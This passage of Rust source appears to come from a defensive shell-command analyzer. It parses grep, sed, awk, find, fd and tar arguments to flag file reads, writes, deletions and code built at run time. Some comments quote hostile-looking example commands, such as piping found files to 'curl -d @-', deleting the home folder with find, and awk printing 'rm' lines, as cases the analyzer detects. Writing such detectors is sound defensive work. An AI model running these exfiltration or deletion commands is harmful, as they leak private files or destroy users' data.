        "strings" => &["-n", "-t", "-e", "--bytes", "--radix", "--encoding"],
        "stat" => &["-c", "--format", "--printf"],
        "file" => &[
            "-m",
            "-f",
            "-e",
            "-F",
            "-P",
            "--magic-file",
            "--files-from",
            "--separator",
        ],
        "diff" | "diff3" | "sdiff" | "colordiff" => &[
            "-x",
            "-X",
            "--exclude",
            "--exclude-from",
            "-I",
            "--label",
            "-L",
            "-F",
            "-C",
            "-U",
            "--from-file",
            "--to-file",
            "-W",
            "--width",
            "-o",
            "--output",
            "-D",
        ],
        "cut" => &[
            "-d",
            "-f",
            "-c",
            "-b",
            "--delimiter",
            "--fields",
            "--characters",
            "--bytes",
            "--output-delimiter",
        ],
        "paste" => &["-d", "--delimiters"],
        "join" => &["-t", "-1", "-2", "-j", "-o", "-e", "-a", "-v"],
        "comm" => &["--output-delimiter"],
        "fold" | "fmt" => &["-w", "--width", "-p", "-g", "--prefix", "--goal"],
        "column" => &[
            "-s",
            "-c",
            "-t",
            "-o",
            "-N",
            "-R",
            "-E",
            "-d",
            "-H",
            "-W",
            "-l",
            "-O",
            "-r",
            "--table-columns",
            "--separator",
            "--output-separator",
        ],
        "iconv" => &["-f", "-t", "-o", "--from-code", "--to-code", "--output"],
        "numfmt" => &[
            "--field",
            "--format",
            "--from",
            "--from-unit",
            "--to",
            "--to-unit",
            "--padding",
            "--round",
            "--suffix",
            "--header",
            "--invalid",
            "-d",
            "--delimiter",
        ],
        "bat" | "batcat" => &[
            "-l",
            "--language",
            "-H",
            "--highlight-line",
            "--file-name",
            "-r",
            "--line-range",
            "--style",
            "--theme",
            "--paging",
            "--pager",
            "--wrap",
            "--tabs",
            "-m",
            "--map-syntax",
            "--color",
            "--italic-text",
            "--decorations",
            "--terminal-width",
            "--diff-context",
            "--nonprintable-notation",
        ],
        "jq" | "gojq" | "jaq" => &["-f", "--from-file", "--indent", "--tab", "-L"],
        "yq" => &[
            "-o",
            "--output-format",
            "-p",
            "--input-format",
            "-I",
            "--indent",
            "--expression",
        ],
        "xmllint" => &[
            "--xpath",
            "--schema",
            "--relaxng",
            "--dtdvalid",
            "--output",
            "-o",
            "--encode",
            "--path",
        ],
        "realpath" => &["--relative-to", "--relative-base"],
        "mlr" => &["--ifs", "--ofs", "--ips", "--ops", "--irs", "--ors", "-n"],
        _ => &[],
    };
    let p = opts::parse(inv.rest(), wv, false);
    let mut operands: Vec<Arg> = p.operands.clone();
    if matches!(name, "jq" | "gojq" | "jaq" | "yq") {
        // The filter comes first unless given with -f; `--arg NAME VALUE` / `--argjson` /
        // `--slurpfile NAME FILE` / `--rawfile NAME FILE` take two words.
        operands = jq_operands(inv.rest());
        // yq v4 names its mode first (`yq eval '.a' f.yaml`, `yq ea '.[] | .key' *.yaml`;
        // yq docs, "Commands"): the expression follows it.
        if name == "yq"
            && operands
                .first()
                .is_some_and(|o| matches!(o.text.as_str(), "e" | "eval" | "ea" | "eval-all"))
        {
            operands.remove(0);
        }
        if !p.has(&["-f", "--from-file"]) && !operands.is_empty() {
            operands.remove(0);
        }
        read_values(a, inv, &p, &["-f", "--from-file"], name);
    }
    if matches!(name, "diff" | "diff3" | "sdiff" | "colordiff") {
        if let Some(o) = p.value(&["-o", "--output"]).cloned() {
            a.path_arg(&inv.cwd, &o, Access::Write, "diff -o", false);
        }
    }
    if name == "iconv" {
        if let Some(o) = p.value(&["-o", "--output"]).cloned() {
            a.path_arg(&inv.cwd, &o, Access::Write, "iconv -o", false);
        }
    }
    if matches!(name, "dos2unix" | "unix2dos") {
        for op in &operands {
            a.path_arg(&inv.cwd, op, Access::Write, name, false);
        }
        return Stream::default();
    }
    if matches!(name, "realpath" | "readlink" | "stat" | "file") {
        for op in &operands {
            if super::disk::names_device_only(name, &op.text) {
                continue;
            }
            a.path_arg(&inv.cwd, op, Access::Read, name, false);
        }
        return Stream::default();
    }
    let input = read_operands(a, name, inv, &operands, false);
    Stream {
        text: None,
        ..input
    }
}

fn jq_operands(args: &[Arg]) -> Vec<Arg> {
    let mut out = Vec::new();
    let mut i = 0;
    let mut end = false;
    while let Some(x) = args.get(i) {
        let t = x.text.as_str();
        if end || !t.starts_with('-') || t == "-" {
            out.push(x.clone());
            i += 1;
            continue;
        }
        match t {
            "--" => end = true,
            "--arg" | "--argjson" | "--slurpfile" | "--rawfile" => i += 2,
            "-f" | "--from-file" | "--indent" | "-L" | "--tab" => i += usize::from(t != "--tab"),
            _ => {}
        }
        i += 1;
    }
    out
}

fn grep(a: &mut Analyzer, name: &str, inv: &Inv) -> Stream {
    const GREP_VALUE: &[&str] = &[
        "-e",
        "-f",
        "-m",
        "-A",
        "-B",
        "-C",
        "-d",
        "-D",
        "--regexp",
        "--file",
        "--max-count",
        "--after-context",
        "--before-context",
        "--context",
        "--directories",
        "--devices",
        "--include",
        "--exclude",
        "--exclude-dir",
        "--exclude-from",
        "--label",
        "--binary-files",
        "--color",
        "--colour",
    ];
    // rg adds its own valued options; `-r` is --replace and `-E` --encoding there (for grep
    // they are --recursive and --extended-regexp, without a value).
    const RG_VALUE: &[&str] = &[
        "-e",
        "-f",
        "-m",
        "-A",
        "-B",
        "-C",
        "--regexp",
        "--file",
        "--max-count",
        "--after-context",
        "--before-context",
        "--context",
        "--color",
        "--colour",
        "-g",
        "--glob",
        "-t",
        "--type",
        "-T",
        "--type-not",
        "--type-add",
        "-M",
        "--max-columns",
        "-j",
        "--threads",
        "--max-depth",
        "--maxdepth",
        "--max-filesize",
        "-E",
        "--encoding",
        "--sort",
        "--sortr",
        "-r",
        "--replace",
        "--ignore-file",
        "--pre",
        "--pre-glob",
        "--path-separator",
        "--engine",
        "--field-match-separator",
        "--field-context-separator",
        "--context-separator",
        "--colors",
        "--dfa-size-limit",
        "--regex-size-limit",
        "--hyperlink-format",
    ];
    let wv = if name == "rg" { RG_VALUE } else { GREP_VALUE };
    let p = opts::parse(inv.rest(), wv, false);
    let recursive = matches!(name, "rg" | "ag" | "ack")
        || p.has(&["-r", "-R", "--recursive", "--dereference-recursive"]);
    let has_pattern_opt = p.has(&["-e", "--regexp", "-f", "--file"]);
    read_values(
        a,
        inv,
        &p,
        &["-f", "--file", "--exclude-from", "--ignore-file"],
        name,
    );
    let files: Vec<Arg> = p
        .operands
        .iter()
        .skip(usize::from(!has_pattern_opt))
        .cloned()
        .collect();
    if files.is_empty() && recursive && name != "zgrep" {
        // grep -r / rg without a path search the working directory.
        let cwd = inv.cwd.clone();
        let r = Resolved {
            path: cwd.text.clone(),
            dynamic: !cwd.known,
            glob: false,
        };
        if !inv.stdin.piped || name == "rg" {
            a.add_path(&r, Access::Read, name, true, &inv.evidence);
            return Stream::default();
        }
    }
    let input = read_operands(a, name, inv, &files, recursive);
    let mut out = Stream {
        text: None,
        ..input
    };
    if p.has(&["-l", "-L", "--files-with-matches", "--files-without-match"]) {
        // The output lists file names: those searched.
        out.listing = inv.stdin.listing.clone().or_else(|| {
            files.first().map(|f| {
                let r = paths::resolve(f, &inv.cwd);
                match r.path.find(['*', '?', '[']) {
                    Some(i) => r
                        .path
                        .get(..i)
                        .and_then(|b| b.rsplit_once('/'))
                        .map(|(d, _)| {
                            if d.is_empty() {
                                "/".to_string()
                            } else {
                                d.to_string()
                            }
                        })
                        .unwrap_or_else(|| inv.cwd.text.clone()),
                    // A recursive search lists files below the folder it was given (`grep -rl
                    // X .` lists `./a/b.go`), not beside it.
                    None if recursive => r.path.clone(),
                    None => r
                        .path
                        .rsplit_once('/')
                        .map(|(d, _)| d.to_string())
                        .unwrap_or_default(),
                }
            })
        });
        if recursive && inv.stdin.listing.is_none() {
            out.walk = crate::model::Walk::Attr;
        }
    }
    out
}

fn sed(a: &mut Analyzer, inv: &Inv) -> Stream {
    let p = opts::parse(
        inv.rest(),
        &["-e", "--expression", "-f", "--file", "-l", "--line-length"],
        false,
    );
    let in_place = p
        .opts
        .iter()
        .any(|o| o.name == "-i" || o.name.starts_with("--in-place"));
    read_values(a, inv, &p, &["-f", "--file"], "sed -f");
    let has_script = p.has(&["-e", "--expression", "-f", "--file"]);
    let files: Vec<Arg> = p
        .operands
        .iter()
        .skip(usize::from(!has_script))
        .cloned()
        .collect();
    if in_place {
        for f in files.iter().take(256) {
            a.path_arg(&inv.cwd, f, Access::Write, "sed -i", false);
        }
        return Stream::default();
    }
    let input = read_operands(a, "sed", inv, &files, false);
    // A substitution (`s/…/…/`, `y/…/…/`) builds new text: run as code, it is decoded code.
    let script: Vec<&str> = if has_script {
        p.values(&["-e", "--expression"])
            .iter()
            .map(|v| v.text.as_str())
            .collect()
    } else {
        p.operands
            .first()
            .map(|x| x.text.as_str())
            .into_iter()
            .collect()
    };
    let builds = script.iter().any(|s| sed_substitutes(s));
    let mut out = Stream {
        text: None,
        ..input
    };
    if builds && out.taint.decoded.is_none() {
        out.taint.decoded = Some("sed".into());
        out.file = None;
    }
    out
}

/// True when a sed script has an `s` or `y` command (after an optional address).
fn sed_substitutes(script: &str) -> bool {
    script.split([';', '\n']).any(|cmd| {
        let c = cmd
            .trim()
            .trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, ',' | '$' | '!' | ' '));
        let c = if c.starts_with('/') {
            // `/re/s/a/b/`: skip the address regex.
            c.get(1..)
                .and_then(|r| r.find('/').map(|i| r.get(i + 1..).unwrap_or("")))
                .unwrap_or("")
                .trim_start()
        } else {
            c
        };
        let mut ch = c.chars();
        matches!(ch.next(), Some('s' | 'y'))
            && ch
                .next()
                .is_some_and(|d| !d.is_alphanumeric() && !d.is_whitespace())
    })
}

/// The files an awk program reads with `getline [VAR] < "FILE"` (literal names only).
fn awk_getline_files(prog: &str) -> Vec<String> {
    let mut out = Vec::new();
    for (i, _) in prog.match_indices("getline").take(16) {
        let rest = prog.get(i + 7..).unwrap_or("").trim_start();
        // An optional variable name.
        let rest = rest
            .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_')
            .trim_start();
        let Some(after) = rest.strip_prefix('<') else {
            continue;
        };
        let after = after.trim_start();
        if let Some(body) = after.strip_prefix('"') {
            if let Some(end) = body.find('"') {
                let f = &body[..end];
                if !f.is_empty() && !f.contains('\\') {
                    out.push(f.to_string());
                }
            }
        }
    }
    out
}

/// True when an awk program calls `system(…)` with an argument that is no string literal
/// (`system($0)`, `system($1)`, `system(cmd)`); `system("…" $1)` starts with a literal and is
/// followed by [`super::interp::awk_shell_literals`].
fn awk_system_of_value(prog: &str) -> bool {
    prog.match_indices("system(").any(|(i, _)| {
        let arg = prog.get(i + 7..).unwrap_or("").trim_start();
        arg.starts_with('$') || arg.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
    })
}

fn awk(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) -> Stream {
    let p = opts::parse(
        inv.rest(),
        &[
            "-f",
            "--file",
            "-v",
            "--assign",
            "-F",
            "--field-separator",
            "-i",
            "--include",
            "-l",
            "--load",
            "-E",
            "--exec",
            "-W",
        ],
        false,
    );
    read_values(
        a,
        inv,
        &p,
        &["-f", "--file", "-E", "--exec", "-i", "--include"],
        name,
    );
    let in_place = p
        .values(&["-i", "--include"])
        .iter()
        .any(|v| v.text == "inplace");
    let has_prog = p.has(&["-f", "--file", "-E", "--exec"]);
    let program = if has_prog {
        None
    } else {
        p.operands.first().cloned()
    };
    if let Some(prog) = &program {
        // `system("…")` and `"…" | getline` run shell code.
        for code in super::interp::awk_shell_literals(&prog.text) {
            let arg = Arg::lit(&code);
            shell_code(a, inv, st, name, &arg, Some(Stream::default()));
        }
        awk_hidden(a, name, &prog.text, &inv.evidence);
        // `getline [VAR] < "FILE"` reads FILE (gawk manual, "Getline from a File").
        for f in awk_getline_files(&prog.text) {
            a.path_arg(
                &inv.cwd,
                &Arg::lit(&f),
                Access::Read,
                "awk getline <",
                false,
            );
        }
        // `system($0)`, `system($2)`, `system(cmd)`: the command is built from the input at
        // run time (a file of commands run line by line), code hookward cannot see.
        if awk_system_of_value(&prog.text) {
            a.dynamic_code(
                name,
                "unknown",
                Some("awk system() of input".to_string()),
                &inv.wrappers,
                &inv.evidence,
            );
        }
    }
    let files: Vec<Arg> = p
        .operands
        .iter()
        .skip(usize::from(!has_prog))
        .filter(|x| !x.text.contains('=') || x.text.starts_with('/') || x.text.starts_with('.'))
        .cloned()
        .collect();
    if in_place {
        for f in &files {
            a.path_arg(&inv.cwd, f, Access::Write, "awk -i inplace", false);
        }
        return Stream::default();
    }
    let input = read_operands(a, name, inv, &files, false);
    // `BEGIN { print "…" }` alone prints known text; a program that prints string literals
    // with input fields (`{print "rm " $1}`) builds text: run as code, it is decoded code.
    let prog_text = program.as_ref().map(|p| p.text.as_str()).unwrap_or("");
    let builds =
        (prog_text.contains("print") || prog_text.contains("printf")) && prog_text.contains('"');
    if builds {
        let begin_only = prog_text.trim_start().starts_with("BEGIN")
            && prog_text.matches('{').count() == 1
            && !prog_text.contains('$');
        if begin_only {
            let lits: Vec<String> = prog_text
                .match_indices("print")
                .filter_map(|(i, _)| {
                    let after = prog_text.get(i + 5..)?.trim_start_matches('f').trim_start();
                    super::snippet::leading_literal(after)
                })
                .collect();
            if !lits.is_empty() {
                return Stream::text(format!("{}\n", lits.join("\n")));
            }
        }
        let mut out = Stream {
            text: None,
            ..input
        };
        if out.taint.decoded.is_none() {
            out.taint.decoded = Some(name.to_string());
            out.file = None;
        }
        return out;
    }
    Stream {
        text: None,
        ..input
    }
}

/// Replaces `{}` (and fd's `{.}`, `{/}`, `{//}`, `{/.}`) placeholders with `repl`; returns
/// whether one was found.
fn replace_placeholders(x: &Arg, repl: &str) -> (Arg, bool) {
    let mut y = x.clone();
    let mut found = false;
    for ph in ["{//}", "{/.}", "{/}", "{.}", "{}"] {
        if y.text.contains(ph) {
            found = true;
            y.text = y.text.replace(ph, repl);
        }
    }
    if found {
        y.known_prefix = y.text.len();
        y.glob = true;
    }
    (y, found)
}

/// find(1): starting points, `-delete`, `-exec`/`-execdir`/`-ok`/`-okdir` (the command runs
/// with `{}` standing for `START/*`), `-fprint*`/`-fls` outputs.
fn find(a: &mut Analyzer, inv: &Inv, st: &mut State) -> Stream {
    let rest = inv.rest();
    let mut i = 0;
    // Leading -H -L -P -D debugopts -Olevel.
    while let Some(x) = rest.get(i) {
        match x.text.as_str() {
            "-H" | "-L" | "-P" => i += 1,
            "-D" => i += 2,
            t if t.starts_with("-O") && t.len() > 2 => i += 1,
            _ => break,
        }
    }
    // `--` ends the options: what follows are start points (`find -- ~ -delete`).
    if rest.get(i).is_some_and(|x| x.text == "--" && !x.dynamic) {
        i += 1;
    }
    let mut starts: Vec<Arg> = Vec::new();
    while let Some(x) = rest.get(i) {
        let t = x.text.as_str();
        if (t.starts_with('-') && t.len() > 1) || t == "(" || t == "!" || t == "," || t == ")" {
            break;
        }
        // An empty start point is an error find reports and skips (`find "" ~`).
        if !t.is_empty() || x.dynamic {
            starts.push(x.clone());
        }
        i += 1;
    }
    if starts.is_empty() {
        starts.push(Arg::lit("."));
    }
    let cwd = inv.cwd.clone();
    let resolved: Vec<Resolved> = starts.iter().map(|s| paths::resolve(s, &cwd)).collect();
    let with_value = [
        "-name",
        "-iname",
        "-path",
        "-ipath",
        "-wholename",
        "-iwholename",
        "-regex",
        "-iregex",
        "-lname",
        "-ilname",
        "-type",
        "-xtype",
        "-newer",
        "-anewer",
        "-cnewer",
        "-perm",
        "-size",
        "-mtime",
        "-atime",
        "-ctime",
        "-mmin",
        "-amin",
        "-cmin",
        "-user",
        "-group",
        "-uid",
        "-gid",
        "-maxdepth",
        "-mindepth",
        "-printf",
        "-inum",
        "-links",
        "-samefile",
        "-used",
        "-fstype",
        "-context",
        "-regextype",
        "-files0-from",
        "-newerXY",
        "-newermt",
        "-newerct",
        "-newerat",
    ];
    let mut delete = false;
    // find visits every level below a start unless `-maxdepth 0|1` says otherwise: what
    // `-exec CMD {}` does to `START/*` it does to the whole tree.
    // Only an unfiltered walk is the whole tree (`find ~ -name '*.log' -exec rm` is not).
    let filters = [
        "-name",
        "-iname",
        "-path",
        "-ipath",
        "-wholename",
        "-iwholename",
        "-regex",
        "-iregex",
        "-lname",
        "-ilname",
        "-newer",
        "-mtime",
        "-mmin",
        "-atime",
        "-amin",
        "-ctime",
        "-cmin",
        "-size",
        "-empty",
        "-perm",
        "-user",
        "-group",
        "-uid",
        "-gid",
        "-inum",
        "-samefile",
        "-links",
        "-newermt",
        "-prune",
        "-nouser",
        "-nogroup",
    ];
    let shallow = rest.windows(2).any(|w| {
        let (Some(x), Some(v)) = (w.first(), w.get(1)) else {
            return false;
        };
        (x.text == "-maxdepth" && matches!(v.text.as_str(), "0" | "1"))
            || (filters.contains(&x.text.as_str()) && !(x.text.ends_with("name") && v.text == "*"))
    }) || rest
        .last()
        .is_some_and(|x| filters.contains(&x.text.as_str()));
    // `-maxdepth 0|1`: the walk stays at the top, whatever the filters.
    let depth_limited = rest.windows(2).any(|w| {
        w.first().is_some_and(|x| x.text == "-maxdepth")
            && w.get(1)
                .is_some_and(|v| matches!(v.text.as_str(), "0" | "1"))
    });
    // A filter by name or path that can leave files out (`-name '*.log'`), as against one by
    // size, time, owner or mode, or a pattern that matches every name (`-name '?*'`,
    // `-regex '.*'`): the latter still reads any file, credential stores included.
    let name_filtered = rest.windows(2).any(|w| {
        let (Some(x), Some(v)) = (w.first(), w.get(1)) else {
            return false;
        };
        matches!(
            x.text.as_str(),
            "-name"
                | "-iname"
                | "-path"
                | "-ipath"
                | "-wholename"
                | "-iwholename"
                | "-regex"
                | "-iregex"
                | "-lname"
                | "-ilname"
                | "-prune"
        ) && !matches!(
            v.text.as_str(),
            "*" | "?*" | "*?" | "**" | "*/*" | ".*" | ".+" | "^.*$" | "^.+$" | ".*.*"
        )
    }) || rest.iter().any(|x| x.text == "-prune");
    // `-maxdepth 1` with one `-name PAT` test and no alternatives or negations (`-o`, `!`,
    // `-not`, `,`): the entries `-exec` is given are `START/PAT` (and START itself, when its
    // own name matches), so `{}` stands for that pattern rather than `START/*`
    // (`find /tmp -maxdepth 1 -name 'pytest-*' -exec rm -rf {} +` removes `/tmp/pytest-*`).
    let top_name: Option<String> = {
        let one_level = rest.iter().filter(|x| x.text == "-maxdepth").count() == 1
            && rest.windows(2).any(|w| {
                w.first().is_some_and(|x| x.text == "-maxdepth")
                    && w.get(1).is_some_and(|v| v.text == "1")
            });
        let names: Vec<&Arg> = rest
            .windows(2)
            .filter(|w| w.first().is_some_and(|x| x.text == "-name"))
            .filter_map(|w| w.get(1))
            .collect();
        let other_tests = rest.iter().any(|x| {
            matches!(
                x.text.as_str(),
                "-o" | "-or"
                    | "!"
                    | "-not"
                    | ","
                    | "-path"
                    | "-ipath"
                    | "-iname"
                    | "-regex"
                    | "-iregex"
                    | "-wholename"
                    | "-iwholename"
                    | "-mindepth"
            )
        });
        match names.as_slice() {
            [n] if one_level
                && !other_tests
                && !n.dynamic
                && !n.text.is_empty()
                && !n.text.contains('/') =>
            {
                Some(n.text.clone())
            }
            _ => None,
        }
    };
    // A walk at any depth with one `-name NAME` test and no alternatives or negations, NAME a
    // regenerable build output folder (`crate::buildout`: `node_modules`, `target`,
    // `__pycache__`): every entry `-exec` is given is named NAME, so `{}` stands for
    // `START/**/NAME` rather than `START/*` (`find ~/src -maxdepth 2 -name node_modules -type d
    // -prune -exec rm -rf {} +` removes projects' `node_modules`, not `~/src`'s files). Only
    // for starts strictly below the home or in the project or a temporary folder: a search of
    // `/`, the home or a system folder keeps its wide reading.
    let deep_name: Option<String> = {
        let names: Vec<&Arg> = rest
            .windows(2)
            .filter(|w| w.first().is_some_and(|x| x.text == "-name"))
            .filter_map(|w| w.get(1))
            .collect();
        let other_tests = rest.iter().any(|x| {
            matches!(
                x.text.as_str(),
                "-o" | "-or"
                    | "!"
                    | "-not"
                    | ","
                    | "-path"
                    | "-ipath"
                    | "-iname"
                    | "-regex"
                    | "-iregex"
                    | "-wholename"
                    | "-iwholename"
            )
        });
        match names.as_slice() {
            [n] if !other_tests && !n.dynamic && crate::buildout::is_build_output_name(&n.text) => {
                Some(n.text.clone())
            }
            _ => None,
        }
    };
    let mut exec_out = Stream::default();
    let walk = if depth_limited {
        Walk::Top
    } else if !shallow {
        Walk::Tree
    } else if name_filtered {
        Walk::Filtered
    } else {
        Walk::Attr
    };
    while let Some(x) = rest.get(i) {
        let t = x.text.as_str();
        match t {
            "-delete" => {
                delete = true;
                i += 1;
            }
            "-exec" | "-execdir" | "-ok" | "-okdir" => {
                let mut cmd: Vec<Arg> = Vec::new();
                i += 1;
                while let Some(y) = rest.get(i) {
                    i += 1;
                    if (y.text == ";" || y.text == "+") && !y.dynamic {
                        break;
                    }
                    cmd.push(y.clone());
                }
                for r in resolved.iter().take(4) {
                    let repl = match (&top_name, &deep_name) {
                        (Some(n), _) if !super::glob_match(n, paths::basename(&r.path)) => {
                            paths::join(&r.path, n)
                        }
                        (None, Some(n)) if narrow_start(r, a.ctx) => {
                            paths::join(&paths::join(&r.path, "**"), n)
                        }
                        _ => paths::join(&r.path, "*"),
                    };
                    let mut found = false;
                    let argv: Vec<Arg> = cmd
                        .iter()
                        .map(|c| {
                            let (y, f) = replace_placeholders(c, &repl);
                            found |= f;
                            if f && r.dynamic {
                                let mut y = y;
                                y.dynamic = true;
                                y.known_prefix = 0;
                                y
                            } else {
                                y
                            }
                        })
                        .collect();
                    let _ = found;
                    if argv.is_empty() {
                        continue;
                    }
                    let mut sub = sub_inv(inv, argv, "find");
                    sub.stdin = Stream::default();
                    if t == "-execdir" || t == "-okdir" {
                        sub.cwd = Cwd {
                            text: r.path.clone(),
                            known: !r.dynamic,
                        };
                    }
                    // `-exec CMD {}` does to `START/*` what it does at every level below
                    // START unless the walk is depth-limited ([`Walk`], in `add_path`).
                    let pushed = walk != Walk::Top && !a.tree_globs.iter().any(|(g, _)| *g == repl);
                    if pushed {
                        a.tree_globs.push((repl.clone(), walk));
                    }
                    let o = a.run_inv(sub, st);
                    // What the command prints is find's output (`-exec cat {} + | curl -d @-`).
                    exec_out.taint.merge(&o.taint);
                    if exec_out.file.is_none() {
                        exec_out.file = o.file;
                    }
                    if pushed {
                        a.tree_globs.retain(|(g, _)| *g != repl);
                    }
                }
            }
            "-fprint" | "-fprint0" | "-fls" => {
                if let Some(f) = rest.get(i + 1) {
                    a.path_arg(&cwd, f, Access::Write, t, false);
                }
                i += 2;
            }
            "-fprintf" => {
                if let Some(f) = rest.get(i + 1) {
                    a.path_arg(&cwd, f, Access::Write, t, false);
                }
                i += 3;
            }
            _ if with_value.contains(&t) || t.starts_with("-newer") => i += 2,
            _ => i += 1,
        }
    }
    for (s, r) in starts.iter().zip(resolved.iter()) {
        if delete {
            let ev = if s.raw.is_empty() {
                s.text.clone()
            } else {
                s.raw.clone()
            };
            let how = if shallow {
                "find -delete filtered"
            } else {
                "find -delete"
            };
            a.add_path(r, Access::Delete, how, true, &ev);
        }
    }
    // The listing covers every start point: their deepest common folder (`find . ~ | xargs rm`
    // lists files of the home).
    let start = common_start(&resolved);
    let mut out = listing(start.as_ref());
    out.walk = walk;
    // The listing names the folders only when find prints the paths themselves (`-print`,
    // `-print0`, no action): `-printf '%h'` prints their parents, `-exec` what it runs.
    let prints_other = rest.iter().any(|x| {
        matches!(
            x.text.as_str(),
            "-printf"
                | "-fprintf"
                | "-exec"
                | "-execdir"
                | "-ok"
                | "-okdir"
                | "-ls"
                | "-fls"
                | "-fprint"
                | "-fprint0"
        )
    });
    if walk != Walk::Top && !prints_other && start.as_ref().is_some_and(|r| narrow_start(r, a.ctx))
    {
        out.listed_name = deep_name;
    }
    out.taint.merge(&exec_out.taint);
    out.file = exec_out.file;
    out
}

/// A start strictly below the home, or in the project or a temporary folder (not `/`, the home
/// itself or a system folder), known when the command is read.
fn narrow_start(r: &Resolved, ctx: &crate::ShellContext) -> bool {
    match paths::scope(&r.path, r.dynamic, ctx) {
        Scope::Home => paths::normalize(&r.path) != paths::normalize(&ctx.home),
        Scope::Project | Scope::Temp => true,
        _ => false,
    }
}

/// The deepest folder holding every start point of `find` (the first one when one is only
/// known at run time, or there is one).
fn common_start(starts: &[Resolved]) -> Option<Resolved> {
    let first = starts.first()?;
    if starts.len() == 1 || starts.iter().any(|r| r.dynamic || !r.path.starts_with('/')) {
        return Some(first.clone());
    }
    let mut common: Vec<&str> = first.path.split('/').filter(|c| !c.is_empty()).collect();
    for r in &starts[1..] {
        let parts: Vec<&str> = r.path.split('/').filter(|c| !c.is_empty()).collect();
        let n = common
            .iter()
            .zip(parts.iter())
            .take_while(|(a, b)| a == b)
            .count();
        common.truncate(n);
    }
    Some(Resolved {
        path: format!("/{}", common.join("/")),
        dynamic: false,
        glob: false,
    })
}

/// How deep the paths printed by a directory lister reach ([`Walk`]): `ls -R`, `eza -R` /
/// `--tree`, `lsd --tree` and `tree` (which recurses by default) list every level, unless a
/// level limit of 0 or 1 is given (`tree -L 1`); `tree -P PATTERN` lists only matching
/// files; plain `ls DIR` lists DIR's own entries.
fn lister_walk(name: &str, p: &Parsed) -> Walk {
    let recursive = name == "tree" || p.has(&["-R", "--recursive", "--recurse", "--tree"]);
    let level_one = p
        .value(&["-L", "--level", "--depth"])
        .is_some_and(|v| matches!(v.text.as_str(), "0" | "1"));
    if !recursive || level_one {
        Walk::Top
    } else if name == "tree" && p.has(&["-P", "--matchdirs"]) {
        Walk::Filtered
    } else {
        Walk::Tree
    }
}

/// The output of a program that lists paths under `dir`.
fn listing(dir: Option<&Resolved>) -> Stream {
    Stream {
        listing: dir
            .filter(|r| !r.dynamic && r.path.starts_with('/'))
            .map(|r| r.path.clone()),
        ..Stream::default()
    }
}

/// fd(1): `fd [OPTIONS] [PATTERN] [PATH…]`; `-x`/`--exec` and `-X`/`--exec-batch` take the
/// rest of the command line as the command (`{}` placeholders stand for found paths).
fn fd(a: &mut Analyzer, inv: &Inv, st: &mut State) -> Stream {
    let rest = inv.rest();
    let exec_at = rest
        .iter()
        .position(|x| matches!(x.text.as_str(), "-x" | "--exec" | "-X" | "--exec-batch"));
    let (search, cmd) = match exec_at {
        Some(i) => (
            rest.get(..i).unwrap_or(&[]),
            rest.get(i + 1..).unwrap_or(&[]),
        ),
        None => (rest, &[][..]),
    };
    let p = opts::parse(
        search,
        &[
            "-e",
            "--extension",
            "-t",
            "--type",
            "-E",
            "--exclude",
            "-d",
            "--max-depth",
            "--min-depth",
            "--exact-depth",
            "-S",
            "--size",
            "--changed-within",
            "--changed-before",
            "-o",
            "--owner",
            "--ignore-file",
            "-c",
            "--color",
            "-j",
            "--threads",
            "--max-results",
            "--base-directory",
            "--path-separator",
            "--search-path",
            "--format",
            "--strip-cwd-prefix",
            "--and",
        ],
        false,
    );
    let mut roots: Vec<Arg> = p.operands.iter().skip(1).cloned().collect();
    roots.extend(p.values(&["--search-path"]).into_iter().cloned());
    if roots.is_empty() {
        roots.push(Arg::lit("."));
    }
    let cwd = inv.cwd.clone();
    // fd walks every level unless `-d`/`--max-depth` (or `--exact-depth`) is 0 or 1; a
    // pattern other than `.`/`^`, an extension or a glob filter by name.
    let depth_limited = ["-d", "--max-depth", "--exact-depth"].iter().any(|o| {
        p.value(&[o])
            .is_some_and(|v| matches!(v.text.as_str(), "0" | "1"))
    });
    let named = p
        .operands
        .first()
        .is_some_and(|x| !matches!(x.text.as_str(), "." | "^" | "" | ".*"))
        || p.has(&["-e", "--extension", "-g", "--glob"]);
    let walk = if depth_limited {
        Walk::Top
    } else if named {
        Walk::Filtered
    } else {
        Walk::Tree
    };
    if cmd.is_empty() {
        let first = roots.first().map(|r| paths::resolve(r, &cwd));
        let mut out = listing(first.as_ref());
        out.walk = walk;
        return out;
    }
    for root in roots.iter().take(4) {
        let r = paths::resolve(root, &cwd);
        let repl = paths::join(&r.path, "*");
        let pushed = walk != Walk::Top && !a.tree_globs.iter().any(|(g, _)| *g == repl);
        if pushed {
            a.tree_globs.push((repl.clone(), walk));
        }
        let mut found = false;
        let mut argv: Vec<Arg> = cmd
            .iter()
            .map(|c| {
                let (y, f) = replace_placeholders(c, &repl);
                found |= f;
                y
            })
            .collect();
        if !found {
            let mut g = Arg::lit(&repl);
            g.glob = true;
            argv.push(g);
        }
        let mut sub = sub_inv(inv, argv, "fd");
        sub.stdin = Stream::default();
        a.run_inv(sub, st);
        if pushed {
            a.tree_globs.retain(|(g, _)| *g != repl);
        }
    }
    Stream::default()
}

/// tar(1): modes `-c`/`-r`/`-u` (create: archive written, members read), `-x` (extract:
/// destination created, recursively), `-t` (list). Old-style bundled first argument
/// (`tar zxf a.tgz`) is accepted. `--to-command`, `--checkpoint-action=exec=` and
/// `-I`/`--use-compress-program` run commands.
fn tar(a: &mut Analyzer, inv: &Inv, st: &mut State) -> Stream {
    let mut args: Vec<Arg> = inv.rest().to_vec();
    if let Some(first) = args.first_mut() {
        if !first.text.starts_with('-')
            && !first.dynamic
            && first.text.chars().all(|c| c.is_ascii_alphabetic())
        {
            first.text = format!("-{}", first.text);
            first.known_prefix = first.text.len();
        }
    }
    let p = opts::parse(
        &args,
        &[
            "-f",
            "--file",
            "-C",
            "--directory",
            "-T",
            "--files-from",
            "-X",
            "--exclude-from",
            "-I",
            "--use-compress-program",
            "-H",
            "--format",
            "-b",
            "--blocking-factor",
            "-g",
            "--listed-incremental",
            "-K",
            "--starting-file",
            "-N",
            "--newer",
            "-V",
            "--label",
            "-L",
            "--tape-length",
            "-F",
            "--info-script",
            "--new-volume-script",
            "--to-command",
            "--exclude",
            "--transform",
            "--xform",
            "--owner",
            "--group",
            "--mode",
            "--mtime",
            "--checkpoint-action",
            "--strip-components",
            "--index-file",
            "--warning",
            "--record-size",
            "--exclude-tag",
            "--rsh-command",
            "--rmt-command",
            "--volno-file",
        ],
        false,
    );
